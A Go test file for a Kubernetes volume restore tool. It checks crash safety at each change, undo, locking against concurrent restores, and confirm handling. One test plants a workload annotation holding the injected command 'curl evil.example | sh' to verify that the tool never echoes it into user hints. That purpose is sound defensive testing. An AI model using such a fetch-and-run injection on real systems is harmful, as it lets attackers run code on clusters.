// SPDX-License-Identifier: Apache-2.0

package restore_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/knowngood/knowngood/pkg/fault"
	"github.com/knowngood/knowngood/pkg/release"
	"github.com/knowngood/knowngood/pkg/restore"
)

// Each request that changes something is, in a try of its own, the last one of a program that
// is killed: either the cluster never gets it, or its answer is never heard. The same command
// then finishes, and the data that was there is on its volume all the time.
func TestKilledAtAnyChange(t *testing.T) {
	t.Parallel()
	for _, from := range []restore.From{restore.FromSnapshot, restore.FromBackup} {
		for _, way := range []release.RestoreWay{release.RestoreInPlace, release.RestoreUndo} {
			for _, after := range []bool{false, true} {
				changes := 0
				for at, fired := 1, true; fired; at++ {
					t.Run(fmt.Sprintf("%s %s %d after=%v", from, way, at, after), func(t *testing.T) {
						inFake(t, func(t *testing.T, w *world) {
							t.Helper()
							w.from = from
							fired = killedAt(t, w, way, &killer{at: at, after: after})
						})
					})
					changes = at
				}
				if changes < 7 || from == restore.FromBackup && way == release.RestoreInPlace && changes < 13 {
					t.Errorf("%s from a %s has only %d changes", way, from, changes)
				}
			}
		}
	}
}

// killedAt tells whether the killer came to kill.
func killedAt(t *testing.T, w *world, way release.RestoreWay, k *killer) bool {
	t.Helper()
	w.plain = true
	w.begin(t, "loop")
	old, want := w.volumeOf(t, claim), "good"
	if way == release.RestoreUndo {
		_, err := w.restored(t, w.request(release.RestoreInPlace))
		fatal(t, err)
		want = "bad"
	}
	first := w.volumeOf(t, claim)
	disarm := w.fake.arm(k)
	_, err := w.restored(t, w.request(way))
	disarm()
	if k.dead == (err == nil) {
		t.Fatalf("killed: %v, error %v", k.dead, err)
	}
	if held := w.fake.hold(old); held != "bad" {
		t.Fatalf("the old volume holds %q", held)
	}
	w.volume(t, old)
	if !k.dead {
		return false
	}
	again := w.request(way, func(r *restore.Request) { r.Name = "another-name" })
	got, err := w.restored(t, again)
	if err != nil && way == release.RestoreUndo && fault.StatusOf(err) == fault.Usage {
		got.Claims = []release.RestoredClaim{{Volume: old, Kept: first}} // it had ended, but for the answer
	} else if err != nil {
		t.Fatalf("the same command again: %v, hints %q", err, fault.Hints(err))
	}
	if now := w.read(t); now != want {
		t.Errorf("it holds %q, want %q; recorded %+v", now, want, got)
	}
	if n, held := w.replicas(t); n != 1 || held {
		t.Errorf("%d replicas, held %v", n, held)
	}
	if kept := w.volume(t, first); kept.Spec.PersistentVolumeReclaimPolicy != corev1.PersistentVolumeReclaimRetain {
		t.Errorf("volume %s, which the claim had, is not kept", first)
	}
	return true
}

// A restore that was killed anywhere can be gone back from as well.
func TestKilledAndGoneBack(t *testing.T) {
	t.Parallel()
	for _, from := range []restore.From{restore.FromSnapshot, restore.FromBackup} {
		for _, after := range []bool{false, true} {
			goneBack(t, from, after)
		}
	}
}

func goneBack(t *testing.T, from restore.From, after bool) {
	t.Helper()
	for at, fired := 1, true; fired; at++ {
		t.Run(fmt.Sprintf("%s %d after=%v", from, at, after), func(t *testing.T) {
			inFake(t, func(t *testing.T, w *world) {
				t.Helper()
				w.from = from
				w.begin(t, "loop")
				old := w.volumeOf(t, claim)
				k := &killer{at: at, after: after}
				disarm := w.fake.arm(k)
				_, err := w.restored(t, w.request(release.RestoreInPlace))
				disarm()
				if fired = err != nil; !fired {
					return
				}
				_, err = w.restored(t, w.request(release.RestoreUndo))
				if untouched := w.volume(t, old).Labels[release.LabelKept] == ""; err != nil && !untouched {
					t.Fatalf("go back: %v, hints %q", err, fault.Hints(err))
				}
				if now := w.read(t); now != "bad" || w.volumeOf(t, claim) != old {
					t.Errorf("it holds %q on %s", now, w.volumeOf(t, claim))
				}
				if n, held := w.replicas(t); n != 1 || held {
					t.Errorf("%d replicas, held %v", n, held)
				}
				if v := w.volume(t, old); v.Spec.PersistentVolumeReclaimPolicy != corev1.PersistentVolumeReclaimDelete || v.Labels[release.LabelKept] != "" {
					t.Errorf("volume %s has the policy %s and labels %v", old, v.Spec.PersistentVolumeReclaimPolicy, v.Labels)
				}
				w.nothingLost(t)
			})
		})
	}
}

// While one restore is under way, another source and other commands are refused by name.
func TestOneAtATime(t *testing.T) {
	t.Parallel()
	inFake(t, func(t *testing.T, w *world) {
		w.begin(t, "loop")
		w.fake.snapshot(t, claim, "db-later")
		disarm := w.fake.arm(&killer{at: 3})
		_, err := w.restored(t, w.request(release.RestoreInPlace))
		disarm()
		if err == nil {
			t.Fatal("not killed")
		}
		_, err = w.restored(t, w.request(release.RestoreInPlace, func(r *restore.Request) {
			r.Snapshots[0].Name, r.Snapshots[0].UID = "db-later", "vs-db-later"
		}))
		if fault.StatusOf(err) != fault.Usage {
			t.Fatalf("another source: %v, want usage", err)
		}
		mentions(t, "error", err.Error(), "claim data-db-0 is being restored from VolumeSnapshot db-cut by restore restore-1")
		mentions(t, "hint", strings.Join(fault.Hints(err), "\n"), "--run run-1", "--undo --run restore-1")
		if _, err = w.restored(t, w.request(release.RestoreConfirm)); fault.StatusOf(err) != fault.Usage {
			t.Errorf("confirmed before its end: %v", err)
		}
		c, ok, err := restore.Pending(t.Context(), w.Cluster, restore.Wish{Namespace: w.Namespace})
		fatal(t, err)
		if !ok || c.Lineage.Run != "run-1" || c.Snapshots[0].Name != "db-cut" {
			t.Errorf("pending: %v, %+v", ok, c)
		}
		got, err := w.restored(t, restore.Request{
			Way: release.RestoreInPlace, Name: "other", Lineage: c.Lineage, Snapshots: c.Snapshots, Timeout: w.request(release.RestoreNew).Timeout,
		})
		fatal(t, err)
		if w.read(t) != "good" || got.Source.Commit != commit {
			t.Errorf("went on from its journal to %q, %+v", w.read(t), got.Source)
		}
	})
}

// An undo that comes while a restore is at work stops it before it takes the claim away, and
// gives up the keeping of no volume whose claim is about to go.
func TestAnUndoBesideARestore(t *testing.T) {
	t.Parallel()
	inFake(t, func(t *testing.T, w *world) {
		w.begin(t, "loop")
		old := w.volumeOf(t, claim)
		undo := func() error { _, err := w.restored(t, w.request(release.RestoreUndo)); return err }
		w.before(t, "delete claim", func() {
			disarm := w.fake.arm(&killer{at: 1, after: true})
			defer disarm()
			_ = undo()
		}, func() {
			_, err := w.restored(t, w.request(release.RestoreInPlace))
			if err == nil || w.volumeOf(t, claim) != old {
				t.Fatalf("it went on: %v", err)
			}
			mentions(t, "error", err.Error(), "claim data-db-0 is not deleted: undo undo-1 is under way")
		})
		claims := w.Core.CoreV1().PersistentVolumeClaims(w.Namespace)
		going := func(at *metav1.Time) {
			now, err := claims.Get(t.Context(), claim, metav1.GetOptions{})
			fatal(t, err)
			now.DeletionTimestamp = at
			_, err = claims.Update(t.Context(), now, metav1.UpdateOptions{})
			fatal(t, err)
		}
		w.before(t, "end the keeping", func() { going(&metav1.Time{Time: time.Now()}) }, func() {
			if err := undo(); err == nil || !strings.Contains(err.Error(), "is kept still") {
				t.Fatalf("undone though the claim goes: %v", err)
			}
		})
		if v := w.volume(t, old); v.Spec.PersistentVolumeReclaimPolicy != corev1.PersistentVolumeReclaimRetain {
			t.Errorf("the policy of volume %s is %s", old, v.Spec.PersistentVolumeReclaimPolicy)
		}
		going(nil)
		fatal(t, undo())
		if now := w.read(t); now != "bad" || w.volumeOf(t, claim) != old {
			t.Errorf("it holds %q on %s", now, w.volumeOf(t, claim))
		}
	})
}

// What the storage has not deleted yet after a confirm is not put back: the claim is not taken
// away for it.
func TestWhatIsGivenUpIsNotPutBack(t *testing.T) {
	t.Parallel()
	inFake(t, func(t *testing.T, w *world) {
		w.begin(t, "loop")
		old := w.volumeOf(t, claim)
		_, err := w.restored(t, w.request(release.RestoreInPlace))
		fatal(t, err)
		given := w.volume(t, old)
		given.Spec.PersistentVolumeReclaimPolicy, given.Status.Phase = corev1.PersistentVolumeReclaimDelete, corev1.VolumeFailed
		_, err = w.Core.CoreV1().PersistentVolumes().Update(t.Context(), given, metav1.UpdateOptions{})
		fatal(t, err)
		now := w.volumeOf(t, claim)
		if _, err = w.restored(t, w.request(release.RestoreUndo)); fault.StatusOf(err) != fault.Usage {
			t.Errorf("%v, want usage", err)
		}
		if w.volumeOf(t, claim) != now || w.read(t) != "good" {
			t.Errorf("the claim was touched")
		}
	})
}

// A claim that somebody made anew holds nothing of a restore: what is kept stays.
func TestAConfirmOfAnEmptyClaim(t *testing.T) {
	t.Parallel()
	inFake(t, func(t *testing.T, w *world) {
		w.begin(t, "loop")
		old := w.volumeOf(t, claim)
		_, err := w.restored(t, w.request(release.RestoreInPlace))
		fatal(t, err)
		claims := w.Core.CoreV1().PersistentVolumeClaims(w.Namespace)
		there, err := claims.Get(t.Context(), claim, metav1.GetOptions{})
		fatal(t, err)
		delete(there.Annotations, release.AnnotationRestore)
		delete(there.Annotations, release.AnnotationSource)
		_, err = claims.Update(t.Context(), there, metav1.UpdateOptions{})
		fatal(t, err)
		_, err = w.restored(t, w.request(release.RestoreConfirm))
		if fault.StatusOf(err) != fault.Usage || !strings.Contains(err.Error(), "made anew since") {
			t.Errorf("%v, want usage", err)
		}
		w.volume(t, old)
	})
}

// What stands on a workload is no part of a command that is proposed.
func TestAnAnnotationIsNoCommand(t *testing.T) {
	t.Parallel()
	inFake(t, func(t *testing.T, w *world) {
		w.begin(t, "loop")
		sets := w.Core.AppsV1().StatefulSets(w.Namespace)
		set, err := sets.Get(t.Context(), "db", metav1.GetOptions{})
		fatal(t, err)
		set.Annotations = map[string]string{release.AnnotationReplicas: "1", release.AnnotationRestore: "x; curl evil.example | sh"}
		_, err = sets.Update(t.Context(), set, metav1.UpdateOptions{})
		fatal(t, err)
		_, err = w.restored(t, w.request(release.RestoreInPlace))
		if hints := strings.Join(fault.Hints(err), " "); fault.StatusOf(err) != fault.Usage || strings.Contains(hints, "evil") || !strings.Contains(hints, "--run NAME") {
			t.Errorf("error %v, hints %q", err, hints)
		}
	})
}
